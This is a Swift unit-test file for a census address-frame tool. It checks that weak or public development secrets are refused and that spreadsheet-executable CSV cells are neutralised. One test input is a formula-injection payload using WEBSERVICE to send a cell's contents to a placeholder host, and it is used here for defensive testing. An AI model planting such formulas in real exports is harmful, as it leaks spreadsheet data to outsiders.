import CensusTestSupport
import Foundation
import XCTest
@testable import AddressFrame

/// Secrets that are not secret, and CSV cells a spreadsheet would run (issue 13).
final class SecretsAndCSVTests: XCTestCase {
    func testLowEntropySecretsAreRefused() throws {
        for (name, bytes) in [("32 x a", Array(repeating: UInt8(ascii: "a"), count: 32)),
                              ("32 spaces", Array(repeating: UInt8(ascii: " "), count: 32)),
                              ("32 NUL bytes", Array(repeating: UInt8(0), count: 32)),
                              ("a repeated word", Array(String(repeating: "password", count: 5).utf8)),
                              ("a run", Array("abcdefghijklmnopqrstuvwxyz0123456789".utf8)),
                              // Counters interleaved with a pattern: 94 and 63 bits with neighbours'
                              // differences alone (accepted before), 43 and 7 with lags up to 4.
                              ("a hex counter", Array("0102030405060708090a0b0c0d0e0f10".utf8)),
                              ("letters and digits in turn", Array("a1b2c3d4e5f6g7h8i9j0k1l2m3n4o5p6".utf8)),
                              ("a zero-padded counter", Array("001002003004005006007008009010011".utf8))] {
            XCTAssertThrowsError(try DeploymentSecret(bytes: bytes, source: name), name) {
                guard case .tooWeak? = $0 as? SecretError else { return XCTFail("\(name): \($0)") }
            }
        }
        // What the documentation tells operators to make, and a 128-bit hex secret, pass.
        XCTAssertNoThrow(try DeploymentSecret(bytes: Array(testSecretText().utf8), source: "base64"))
        let hex = (0..<16).map { String(format: "%02x", ($0 &* 89 &+ 17) % 256 ^ 0x5a) }.joined()
        XCTAssertGreaterThan(DeploymentSecret.estimatedBits(Array(hex.utf8)), DeploymentSecret.minimumBits, hex)
        // Random secrets of the kinds operators make are never refused (seeded, so repeatable).
        var rng = SplitMix64(state: 13)
        let digits = Array("0123456789abcdef")
        for _ in 0..<500 {
            let hex = String((0..<32).map { _ in digits[Int.random(in: 0..<16, using: &rng)] })
            XCTAssertGreaterThanOrEqual(DeploymentSecret.estimatedBits(Array(hex.utf8)), DeploymentSecret.minimumBits, hex)
            let raw = (0..<32).map { _ in UInt8.random(in: 0...255, using: &rng) }
            XCTAssertGreaterThanOrEqual(DeploymentSecret.estimatedBits(raw), DeploymentSecret.minimumBits, "\(raw)")
        }
    }

    func testThePublicDevelopmentSecretIsRefusedUnlessAskedFor() throws {
        let dev = "census-development-secret-DO-NOT-USE-IN-PRODUCTION"
        XCTAssertThrowsError(try DeploymentSecret.load(environment: ["CENSUS_CODE_SECRET": dev], allowDevelopment: false)) {
            XCTAssertEqual($0 as? SecretError, .publicDevelopmentSecret(source: "environment variable CENSUS_CODE_SECRET"))
        }
        XCTAssertTrue(try DeploymentSecret.load(environment: ["CENSUS_CODE_SECRET": dev], allowDevelopment: true).isDevelopment)
        XCTAssertThrowsError(try DeploymentSecret(bytes: Array(dev.utf8), source: "x"))
    }


    func testCellsASpreadsheetWouldRunAreNeutralised() {
        XCTAssertEqual(CSV.neutralized("=WEBSERVICE(\"http://x/?c=\"&C2)"), "'=WEBSERVICE(\"http://x/?c=\"&C2)")
        for cell in ["+44 113 496 0000", "-1+1", "@SUM(A1:A2)", "\t=1", "\r=1", "=1"] {
            XCTAssertEqual(CSV.neutralized(cell), "'" + cell, cell.debugDescription)
            XCTAssertEqual(CSV.restored(CSV.neutralized(cell)), cell)
        }
        for cell in ["Flat 3", "-12", "+4.5", "3-5 Acacia Road", "", "'quoted'"] {
            XCTAssertEqual(CSV.neutralized(cell), cell, cell.debugDescription)
            XCTAssertEqual(CSV.restored(cell), cell)
        }
        XCTAssertEqual(CSV.line(["H1", "=1+2", "a,b", "\r=x"]), "H1,'=1+2,\"a,b\",\"'\r=x\"\n")
    }


    func testAGeneratedFrameCSVImportsAsItWasGenerated() throws {
        let dir = try makeTempDirectory(self)
        let h = Household(householdID: "-H1", addressLine1: "=1+1", addressLine2: "@home", postcode: "LS1 5NF",
                          outputArea: "E00000001", lsoa: "E01000001", localAuthority: "E08000035")
        let text = CSV.line(Household.csvHeader) + CSV.line(h.csvFields)
        XCTAssertTrue(text.contains("'-H1,'=1+1,'@home"), text)
        let frame = try AddressFrame.open(at: dir.appendingPathComponent(AddressFrame.fileName), create: true)
        defer { try? frame.close() }
        try frame.importCSV(Data(text.utf8))
        XCTAssertEqual(try frame.household("-H1"), h)
    }
}

/// A seeded generator (SplitMix64), so that the random secrets above are the same in every run.
private struct SplitMix64: RandomNumberGenerator {
    var state: UInt64
    mutating func next() -> UInt64 {
        state &+= 0x9E37_79B9_7F4A_7C15
        var z = state
        z = (z ^ (z >> 30)) &* 0xBF58_476D_1CE4_E5B9
        z = (z ^ (z >> 27)) &* 0x94D0_49BB_1331_11EB
        return z ^ (z >> 31)
    }
}
